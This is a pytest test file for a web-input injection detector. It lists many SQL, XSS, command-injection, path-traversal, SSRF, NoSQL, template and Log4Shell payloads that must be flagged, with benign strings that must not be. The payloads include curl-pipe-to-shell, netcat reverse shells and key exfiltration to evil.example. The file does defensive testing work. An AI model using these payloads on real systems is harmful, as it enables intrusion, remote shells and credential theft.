"""Hand-written strings each detector must flag, and tricky benign strings none may flag.

Each case is its own test: a miss fails as ``test_detects[sqli-admin'--]`` and a false positive as
``test_benign_is_clean[Tom & Jerry]``, naming the string.
"""

from __future__ import annotations

import pytest

from faasguard.guard.detect import Detection, DetectionKind, detect

MUST: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "1; DROP TABLE users",
        "1 AND SLEEP(5)",
        "' OR 1=1#",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "x' UNION/**/SELECT null,null--",
        "-1 union all select 1,2,@@version",
        "'; exec master..xp_cmdshell 'dir'--",
        "1 waitfor delay '0:0:5'",
        "1' order by 3--",
        "SELECT * FROM users WHERE id = 1",
        "1/*!50000union*/select 1",
        "1 OR 1=1",
        "' or ''='",
        "1' and (select count(*) from information_schema.tables)>0--",
        "1%27%20or%20%271%27%3D%271",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "javascript:alert(document.cookie)",
        "<svg/onload=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        "<iframe src=//evil.example>",
        "';alert(1);//",
        '<div style="width:expression(alert(1))">',
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth
        "<body onload=alert(1)>",
        '"><img src=x onerror=prompt(1)>',
        # event handlers with odd separators and junk after the event name
        "<body onload!#$%&()=alert(1)>",
        "<img[a]src=x[b]onerror[c]=alert(1)>",
        '<x ev:event="load" ev:handler="#y">',
        # script URLs split by blanks, comments or entities
        '"jav ascript:alert(1)">',
        "<a href=java<!-- -->script:alert(1)>x",
        # namespaced SVG, MathML and XSL elements; DTDs
        '<svg:rect id="x">',
        '<xsl:template match="/">',
        '<!DOCTYPE x [ <!ENTITY e SYSTEM "http://evil.example/x"> ]>',
        '<!ATTLIST img onerror CDATA "alert(1)">',
        "<foreignObject><iframe>",
        # CSS that breaks out of its declaration or loads code
        "<p style=\"font-family:'a;color:red';\">x</p>",
        '<p style="background:url(//evil.example/a)">x</p>',
        '<p style="color:red/*x*/">x</p>',
        '"xss:expr/**/ession(alert(1))">',
        "a:\\0075\\0072\\006c(x)",
        # the end of a tag the value was pasted into, without its "<"
        "prompt(1) autofocus>",
        '"x" src="//evil.example/x.js" />',
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "datasrc=#x datafld=a dataformatas=html",
    ],
    "cmdi": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`id`",
        "$(curl http://evil.example/x|sh)",
        "127.0.0.1; ls -la",
        "x\nwget http://evil.example/a -O /tmp/a",
        "ping -c 10 127.0.0.1",
        '<!--#exec cmd="ls" -->',
        "a;${IFS}cat${IFS}/etc/passwd",
        "/bin/sh -c id",
        "x || nc -e /bin/sh 10.0.0.1 4444",
        "';system('id');'",
        "| dir c:\\",
        # substitutions, brace expansion, $IFS, newlines
        "x`id`",
        "{cat,/etc/passwd}",
        ";{ls,-la}",
        "cat${IFS}/etc/passwd",
        "127.0.0.1\nid",
        "%0aid%0a",
        "\\nid\\n",
        # command words after separators, also at the end or before another separator
        "a;id;",
        "id|",
        "&& curl evil.example",
        "; wget evil.example/x",
        "| net user",
        "& type %SYSTEMROOT%\\win.ini",
        # a command line opening the text; a command alone in quotes
        "ping evil.example",
        "cat</etc/passwd",
        "'uname'",
        # obfuscated names, globbed paths, Shellshock, code that runs commands
        "w'h'o'am'i",
        ";who$@ami",
        ";/???/??t /???/p??s??",
        "() { :;}; echo x",
        "<?php system('id'); ?>",
        "__import__('os').popen('id')",
        "require('child_process').exec('id')",
    ],
    "path-traversal": [
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "....//....//etc/passwd",
        "/proc/self/environ",
        "file:///etc/shadow",
        "WEB-INF/web.xml",
        "/var/task/lambda_function.py",
        "..%u002f..%u002fetc%u002fpasswd",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        # overlong UTF-8 of every length, lenient forms, look-alike slashes
        "%c0%2e%c0%2e%c0%2fetc",
        "%e0%80%ae%e0%80%ae/etc",
        "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc",
        "..%u2215..%u2215etc",
        "%uff0e%uff0e%u2216windows",
        # filter bypasses: Tomcat ";", trailing blanks, controls, escaped dots
        "..;/..;/admin",
        ".. /.. /etc",
        "..%01/etc",
        "\\u002e\\u002e/\\u002e\\u002e/x",
        # absolute sensitive paths: Unix, home directories, Windows, drive roots
        "/proc/version",
        "/var/log/nginx/access.log",
        "~/.ssh/id_rsa",
        "/home/app/.aws/credentials",
        "../.env",
        "c:oot.ini",
        "C:\\Windows\\System32\\config\\SAM",
        "C:/inetpub/wwwroot",
        # a long run of dots in a path (Windows drops trailing dots: path truncation)
        "/" + "a" * 40 + "........{file}",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:8080/admin",
        "http://localhost/",
        "http://2130706433/",
        "http://0x7f.0x0.0x0.0x1/",
        "http://0177.0.0.1/",
        "http://127.1/",
        "http://[::1]/",
        "http://[::ffff:7f00:1]/",
        "http://10.0.0.5/internal",
        "http://192.168.1.1/",
        "gopher://evil.example:70/_x",
        "dict://127.0.0.1:6379/info",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://user@169.254.169.254/",
        "http://127.0.0.1.nip.io/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://0/",
        "http://172.16.0.1/",
        "http://169.254.170.2/v2/credentials",
        "http://100.100.100.200/latest/meta-data",
        "https://evil.example@127.0.0.1/",
    ],
    "nosql": [
        '{"username": {"$ne": null}}',
        "user[$gt]=",
        "$where",
        "'; return true; var x='",
        "' || '1'=='1",
        '{"$where": "sleep(100)"}',
        "password[$regex]=.*",
    ],
    "template": [
        "{{7*7}}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "${7*7}",
        "#{7*7}",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "{% import os %}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        "{{config}}",
        "{{self.__init__.__globals__}}",
        "*{T(java.lang.Runtime)}",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
        "%24%7Bjndi:ldap://x/a%7D",
        "${${upper:j}ndi:ldap://x}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
    ],
}

BENIGN: list[str] = [
    "O'Brien",
    "select a plan",
    "1 + 1",
    "C:\\Users\\me\\Documents",
    "https://example.com/path?q=1&r=2",
    "jane.doe@example.com",
    "# Title\n\n- item *one*\n- item **two**\n\n`code` and [link](https://example.com)",
    '{"name": "Alice", "tags": ["a", "b"], "age": 30}',
    "It's 5 o'clock; let's go",
    "Tom & Jerry",
    "rock 'n' roll",
    "Salt & Pepper; more info",
    "SELECT your plan and pay",
    "Drop us a line",
    "Where is the union station?",
    "2024-01-01T00:00:00Z",
    "arn:aws:sqs:us-east-1:123456789012:queue",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0 Safari/537.36",
    "Hello {{name}}",
    "${name}",
    "price: $5.00",
    "50% off",
    "a/b/c.txt",
    "v1.2.3",
    "user_id=42",
    "http://example.com/images/a.png",
    "I love <3 cats",
    "x < y and y > z",
    "The company's #1 product",
    "Use `ls` to list files",
    "Meet me at 10:30 - bring snacks",
    'He said "hello" and left',
    "What's 2*3? It's 6.",
    "email me: a+b@example.org",
    "1,000,000",
    "Q&A session: who's in?",
    "<b>bold</b> and <i>italic</i>",
    "SGVsbG8gd29ybGQ=",
    "order by date",
    "Wait... what?",
    "The cat sat on the mat",
    "c:/program files/app",
    "https://api.example.com/v1/items?limit=10&offset=20",
    "10.0.0.1",
    "localhost",
    "$1,234.56",
    "100% natural; no additives",
    "DROP-DOWN menu",
    "Grant & Sons Ltd.",
    "Union Square",
    "it is 3 o'clock -- be there",
    "A-B testing: 50/50",
    "don't stop",
    "--verbose",
    "user@host:~$ ls",
    '{"a": {"b": [1, 2, {"c": "d"}]}}',
    "Ünïcödé naïve café",
    "日本語のテキスト",
    "emoji 🎉 party",
    # lists and prose around command words (shell commands are lower case; a command that is a
    # word needs an argument, or the end of the injection)
    "Skills: Java; Python; Go",
    "name;id;email",
    "More & more; less is more",
    "curl up with a book",
    "type of thing",
    "{id, name}",
    "query {\n  id\n  name\n}",
    "I'd like that",
    "Black & white; set of 3",
    # markup a rich-text field holds, and a link text break (not script)
    "<p style=\"font-family:'Open Sans', sans-serif;\">Hi</p>",
    '<a href="/docs/a.html">docs</a>',
    'my_shop">Baby Wear</a>',
    # paths an application handles
    "/var",
    "developer/options/devices",
    "C:/Users/me/win.txt",
    "a.ini",
    "Wait.... what?",
    # a JSON document inside a string (an SNS message)
    '{"Type": "Notification", "Message": "{\\"order\\": 42, \\"note\\": \\"Tom & Jerry\\"}"}',
]


CASES = [(kind, text) for kind, texts in MUST.items() for text in texts]


@pytest.mark.parametrize(("kind", "text"), CASES, ids=[f"{k}-{t[:40]!r}" for k, t in CASES])
def test_detects(kind: str, text: str) -> None:
    found = {d.kind.value: d for d in detect(text)}
    assert kind in found, f"{text!r}: expected {kind}, got {sorted(found)}"
    detection = found[kind]
    assert detection.rule.split(".")[0] in (kind, "path"), detection.rule
    assert detection.fragment, "a detection names the fragment that matched"


@pytest.mark.parametrize("text", BENIGN, ids=[repr(t[:40]) for t in BENIGN])
def test_benign_is_clean(text: str) -> None:
    assert detect(text) == [], text


def test_detection_is_frozen_and_typed() -> None:
    (found,) = detect("1 UNION SELECT password FROM users")
    assert found == Detection(DetectionKind.SQLI, "sqli.union", "UNION SELECT")
    with pytest.raises(AttributeError):
        found.rule = "x"  # type: ignore[misc]


def test_kind_values_are_the_contract() -> None:
    assert [k.value for k in DetectionKind] == [
        "sqli", "xss", "cmdi", "path-traversal", "ssrf", "nosql", "template", "log4shell",
    ]  # fmt: skip
    assert str(DetectionKind.PATH_TRAVERSAL) == "path-traversal"


def test_kinds_filter_limits_the_scanners() -> None:
    text = "; cat /etc/passwd"
    assert {d.kind for d in detect(text)} == {DetectionKind.CMDI, DetectionKind.PATH_TRAVERSAL}
    only = detect(text, kinds=frozenset({DetectionKind.PATH_TRAVERSAL}))
    assert [d.kind for d in only] == [DetectionKind.PATH_TRAVERSAL]
    assert detect(text, kinds=frozenset()) == []


def test_one_detection_per_kind_in_kind_order() -> None:
    found = detect("${jndi:ldap://127.0.0.1/a} ' OR 1=1--")
    kinds = [d.kind for d in found]
    assert kinds == sorted(set(kinds), key=list(DetectionKind).index)
    assert DetectionKind.LOG4SHELL in kinds and DetectionKind.SQLI in kinds


def test_fragment_is_cut() -> None:
    payload = "1 UNION SELECT " + ", ".join(f"col{i}" for i in range(200)) + " FROM t"
    (found,) = detect(payload)
    assert len(found.fragment) <= 80


def test_callable_from_the_guard_package() -> None:
    import faasguard.guard as guard_pkg

    assert guard_pkg.detect("<script>alert(1)</script>")[0].kind is DetectionKind.XSS
